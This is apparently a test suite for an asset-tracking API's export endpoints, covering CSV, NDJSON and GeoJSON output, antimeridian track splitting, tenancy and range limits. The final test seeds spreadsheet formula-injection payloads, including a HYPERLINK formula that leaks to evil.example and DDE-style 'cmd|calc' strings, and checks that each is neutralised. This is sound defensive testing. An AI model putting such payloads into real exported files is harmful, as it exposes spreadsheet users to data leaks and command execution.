// Exports of the lists (API guide 5, "Exports"): CSV that a CSV parser reads back to the list's own
// values (quotes, commas and line breaks included), NDJSON equal to the JSON items, each with its
// asset's name beside its assetId, GeoJSON that a GeoJSON validator accepts (a LineString per
// asset, [longitude, latitude]; a Point for one position; a MultiLineString cut at the antimeridian
// for a track that crosses it), chosen by format= or Accept; the list's filters and tenancy; the
// range limit.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { check } from '@placemarkio/check-geojson';
import { parse } from 'csv-parse/sync';
import { customer, ok, startApp } from './helpers.js';

const ta = await startApp(undefined, { RATE_LIMIT_MAX: '100000', DB_POOL_SIZE: '4', EXPORT_MAX_DAYS: '30' });
const c = await customer(ta, 'exporter', { base: '/api/v1' });
const other = await customer(ta, 'bystander', { base: '/api/v1' });
const ship = await c.asset('SHIP0001');
const lone = await c.asset('LONE0001');
const at = (minutesAgo: number) => new Date(Date.now() - minutesAgo * 60_000).toISOString();
ok(
  await c.call('POST', '/locations', [
    { assetId: ship, latitude: 53.5, longitude: 9.9, whenCreated: at(30) },
    { assetId: ship, latitude: 53.6, longitude: 10.1, speed: 12.5, whenCreated: at(20) },
    { assetId: ship, latitude: -33.9, longitude: 151.2, zoneId: 'quay "A", berth\n7', whenCreated: at(10) },
    { assetId: lone, latitude: 1.29, longitude: 103.85, whenCreated: at(5) },
  ]),
  201,
);
const tricky = 'x,"y"\nz';
ok(await c.call('POST', '/sensor-data', { assetId: ship, sensorId: tricky, type: 'TEMPERATURE', value: -18.5 }), 201);
ok(await c.call('POST', '/reefer-data', { assetId: ship, data: { supplyAirTemperature: 4.5, note: 'a "quoted", text' } }), 201);
const theirs = await other.asset('THEIRS01');
ok(await other.call('POST', '/locations', { assetId: theirs, latitude: 10, longitude: 10 }), 201);

const get = (path: string, headers: Record<string, string> = {}) => ta.call('GET', `/api/v1${path}`, { token: c.key, headers });
const json = async (path: string) =>
  ok(await get(`${path}${path.includes('?') ? '&' : '?'}order=asc&limit=1000`), 200) as Record<string, unknown>[];
const text = (v: unknown) => (v === null || v === undefined ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v));
const NAMES: Record<string, string> = { [ship]: 'SHIP0001', [lone]: 'LONE0001' };
/** A list item as the export writes it: its asset's name after its assetId (a notification has its own). */
const named = (item: Record<string, unknown>) =>
  'assetName' in item
    ? item
    : Object.fromEntries(
        Object.entries(item).flatMap(([k, v]) =>
          k === 'assetId'
            ? [
                [k, v],
                ['assetName', NAMES[v as string]],
              ]
            : [[k, v]],
        ),
      );

test('CSV reads back to the JSON list, field by field, for every exported list; format= and Accept alike', async () => {
  for (const path of ['/locations', '/sensor-data', '/reefer-data', '/events', '/notifications', '/commands']) {
    const items = await json(path);
    for (const how of ['format', 'accept'] as const) {
      const r = how === 'format' ? await get(`${path}?format=csv`) : await get(path, { accept: 'text/csv' });
      assert.equal(r.status, 200, `${path}: ${r.raw.slice(0, 200)}`);
      assert.match(String(r.headers['content-type']), /^text\/csv/);
      assert.match(String(r.headers['content-disposition']), new RegExp(`attachment; filename="${path.slice(1)}.csv"`));
      const [header, ...rows] = parse(r.raw, { relax_column_count: false }) as string[][];
      assert.ok(header!.includes('id') && header!.includes('whenCreated'), `${path}: the JSON field names`);
      assert.equal(header![header!.indexOf('assetId') + 1], 'assetName', `${path}: the asset's name next to its id`);
      assert.equal(rows.length, items.length, `${path}: every row`);
      rows.forEach((row, n) => {
        const item = named(items[n]!);
        for (const [k, name] of header!.entries()) {
          const v = item[name];
          // A nested object is its JSON text (PostgreSQL writes it with spaces: the same JSON).
          if (v !== null && typeof v === 'object') assert.deepEqual(JSON.parse(row[k]!), v, `${path} row ${n} ${name}`);
          else assert.equal(row[k], text(v), `${path} row ${n} ${name}`);
        }
      });
    }
  }
  const sensors = parse((await get('/sensor-data?format=csv')).raw, { columns: true }) as Record<string, string>[];
  assert.equal(sensors[0]!.sensorId, tricky, 'quotes, a comma and a line break survive');
});

test('NDJSON is the JSON items, one per line; filters and tenancy apply; an empty range is a header only', async () => {
  const r = await get(`/locations?format=ndjson&assetId=${ship}`);
  assert.match(String(r.headers['content-type']), /^application\/x-ndjson/);
  const lines = r.raw
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l));
  assert.deepEqual(lines, (await json(`/locations?assetId=${ship}`)).map(named));
  assert.equal(lines.length, 3);
  assert.deepEqual(Object.keys(lines[0]!).slice(0, 4), ['id', 'assetId', 'assetName', 'ownerId'], 'the name next to the id');
  assert.equal(lines[0]!.assetName, 'SHIP0001');
  const mine = (await get('/locations', { accept: 'application/x-ndjson' })).raw.trimEnd().split('\n');
  assert.equal(mine.length, 4, "no other owner's rows");
  assert.ok(!mine.some((l) => l.includes(theirs)));
  const empty = await get(`/locations?format=csv&from=${encodeURIComponent(at(60 * 24 * 20))}&to=${encodeURIComponent(at(60 * 24 * 19))}`);
  assert.equal(parse(empty.raw).length, 1, 'the header row only');
});

test('GeoJSON: a valid FeatureCollection, a LineString per asset in time order, a Point for a lone position', async () => {
  const r = await get('/locations?format=geojson');
  assert.equal(r.status, 200, r.raw.slice(0, 300));
  assert.match(String(r.headers['content-type']), /^application\/geo\+json/);
  const doc = check(r.raw) as unknown as {
    features: { geometry: { type: string; coordinates: unknown }; properties: { assetId: string; count: number } }[];
  };
  const byAsset = new Map(doc.features.map((f) => [f.properties.assetId, f]));
  assert.equal(byAsset.size, 2);
  assert.deepEqual(byAsset.get(ship)!.geometry, {
    type: 'LineString',
    coordinates: [
      [9.9, 53.5],
      [10.1, 53.6],
      [151.2, -33.9],
    ],
  });
  assert.equal(byAsset.get(ship)!.properties.count, 3);
  assert.equal((byAsset.get(ship)!.properties as { assetName?: string }).assetName, 'SHIP0001');
  assert.deepEqual(byAsset.get(lone)!.geometry, { type: 'Point', coordinates: [103.85, 1.29] });
  assert.equal((await get('/locations', { accept: 'application/geo+json' })).raw, r.raw, 'Accept asks the same');
});

test('GeoJSON: a track across the antimeridian is a MultiLineString cut there, never a line round the world', async () => {
  const d = await customer(ta, 'dateline', { base: '/api/v1' });
  const [east, both, west] = [await d.asset('EAST0001'), await d.asset('BOTH0001'), await d.asset('WEST0001')];
  ok(
    await d.call('POST', '/locations', [
      // East over the line and back: two cuts, three pieces, each cut on both sides at the crossing's latitude.
      { assetId: both, latitude: 10, longitude: 179, whenCreated: at(40) },
      { assetId: both, latitude: 12, longitude: -179, whenCreated: at(30) },
      { assetId: both, latitude: 12, longitude: -178, whenCreated: at(25) },
      { assetId: both, latitude: 14, longitude: 178, whenCreated: at(20) },
      // Near the line on one side only: one LineString, as before.
      { assetId: east, latitude: -17, longitude: 179.2, whenCreated: at(30) },
      { assetId: east, latitude: -17.5, longitude: 179.9, whenCreated: at(20) },
      // West over it: once.
      { assetId: west, latitude: 0, longitude: -179.5, whenCreated: at(30) },
      { assetId: west, latitude: 1, longitude: 179.5, whenCreated: at(20) },
    ]),
    201,
  );
  const r = await d.call('GET', '/locations?format=geojson');
  assert.equal(r.status, 200, r.raw.slice(0, 300));
  const doc = check(r.raw) as unknown as {
    features: { geometry: { type: string; coordinates: unknown }; properties: { assetId: string; assetName: string; count: number } }[];
  };
  const byName = new Map(doc.features.map((f) => [f.properties.assetName, f]));
  assert.deepEqual(byName.get('BOTH0001')!.geometry, {
    type: 'MultiLineString',
    coordinates: [
      [
        [179, 10],
        [180, 11],
      ],
      [
        [-180, 11],
        [-179, 12],
        [-178, 12],
        [-180, 13],
      ],
      [
        [180, 13],
        [178, 14],
      ],
    ],
  });
  assert.equal(byName.get('BOTH0001')!.properties.count, 4, 'positions counted, not the cuts');
  assert.deepEqual(byName.get('EAST0001')!.geometry, {
    type: 'LineString',
    coordinates: [
      [179.2, -17],
      [179.9, -17.5],
    ],
  });
  assert.deepEqual(byName.get('WEST0001')!.geometry, {
    type: 'MultiLineString',
    coordinates: [
      [
        [-179.5, 0],
        [-180, 0.5],
      ],
      [
        [180, 0.5],
        [179.5, 1],
      ],
    ],
  });
  assert.equal(byName.get('WEST0001')!.properties.assetId, west);
});

test('refusals: a range over EXPORT_MAX_DAYS, GeoJSON of what has no places, an unknown format', async () => {
  const far = await get(`/locations?format=csv&from=${encodeURIComponent(at(60 * 24 * 31))}`);
  assert.equal(far.status, 400, far.raw);
  assert.equal(far.body.field, '/from');
  const geo = await get('/sensor-data?format=geojson');
  assert.equal(geo.status, 400);
  assert.equal(geo.body.field, '/format');
  assert.equal((await get('/locations?format=xml')).status, 400);
});

test('formula injection: every CSV path writes a hostile text cell with a leading quote, and numbers as numbers', async () => {
  const h = await customer(ta, 'hostile', { base: '/api/v1' });
  const assetName = '=HYPERLINK("http://evil.example/?leak=1","open me")';
  const zoneName = "+cmd|' /C calc'!A0";
  const sensorId = '@SUM(1+1)*cmd';
  const sensorText = '-2+3+cmd|calc';
  const a = await h.asset(assetName);
  ok(
    await h.call('POST', '/zones', {
      name: zoneName,
      circle: { latitude: -33.9, longitude: 151.2, radiusMeters: 1000 },
      enterAfterSeconds: 0,
      leaveAfterSeconds: 0,
    }),
    201,
  );
  ok(
    await h.call('POST', '/locations', [
      { assetId: a, latitude: -33.5, longitude: 151.2, whenCreated: at(40) },
      { assetId: a, latitude: -33.9, longitude: 151.2, whenCreated: at(30) },
      { assetId: a, latitude: -33.9, longitude: 151.2, zoneId: '=1+1', whenCreated: at(25) },
      { assetId: a, latitude: -33.5, longitude: 151.2, whenCreated: at(20) },
    ]),
    201,
  );
  ok(
    await h.call('POST', '/sensor-data', [
      { assetId: a, sensorId, type: 'TEMPERATURE', value: -18.5, whenCreated: at(30) },
      { assetId: a, sensorId: '\tTAB', type: 'TEMPERATURE', value: sensorText, whenCreated: at(29) },
      { assetId: a, sensorId: 'plain', type: 'TEMPERATURE', value: '-5', whenCreated: at(28) },
    ]),
    201,
  );
  ok(await h.call('POST', '/reefer-data', { assetId: a, data: { note: '=1+1', supplyAirTemperature: -20.5 } }), 201);
  const range = `from=${encodeURIComponent(at(60))}&to=${encodeURIComponent(at(0))}`;
  const paths = [
    ...['/locations', '/sensor-data', '/reefer-data', '/events', '/notifications', '/commands'].map((p) => `${p}?format=csv`),
    ...['summary', 'zones', 'trips', 'stops', 'temperature'].map((k) => `/reports/${k}?assetId=${a}&${range}&format=csv`),
  ];
  const files: Record<string, Record<string, string>[]> = {};
  for (const path of paths) {
    const r = await h.call('GET', path);
    assert.equal(r.status, 200, `${path}: ${r.raw.slice(0, 300)}`);
    const rows = parse(r.raw, { columns: true }) as Record<string, string>[];
    for (const [n, row] of rows.entries()) {
      for (const [name, cell] of Object.entries(row)) {
        // A spreadsheet reads a cell as a formula when it starts so; a number is not one.
        const formula = /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(cell);
        assert.ok(!formula, `${path} row ${n} ${name}: ${JSON.stringify(cell)}`);
      }
    }
    files[path.slice(0, path.indexOf('?'))] = rows;
  }
  const summary = files['/reports/summary']!;
  assert.equal(summary[0]!.assetName, `'${assetName}`);
  assert.equal(files['/reports/zones']![0]!.zoneName, `'${zoneName}`);
  const sensors = files['/sensor-data']!;
  assert.deepEqual(
    sensors.map((s) => [s.sensorId, s.value]),
    [
      [`'${sensorId}`, '-18.5'],
      ["'\tTAB", `'${sensorText}`],
      ['plain', '-5'],
    ],
    'hostile sensor ids and text values neutralised; numbers (and a number sent as text) unchanged',
  );
  const locations = files['/locations']!;
  assert.ok(
    locations.some((l) => l.latitude === '-33.9' && l.zoneId === "'=1+1"),
    JSON.stringify(locations),
  );
  assert.ok(locations.every((l) => l.longitude === '151.2'));
  assert.ok(
    files['/reports/stops']!.every((s) => Number(s.latitude) < -33),
    'a negative latitude stays a number',
  );
  assert.deepEqual(JSON.parse(files['/reefer-data']![0]!.data!), { note: '=1+1', supplyAirTemperature: -20.5 }, 'JSON text as it was');
});
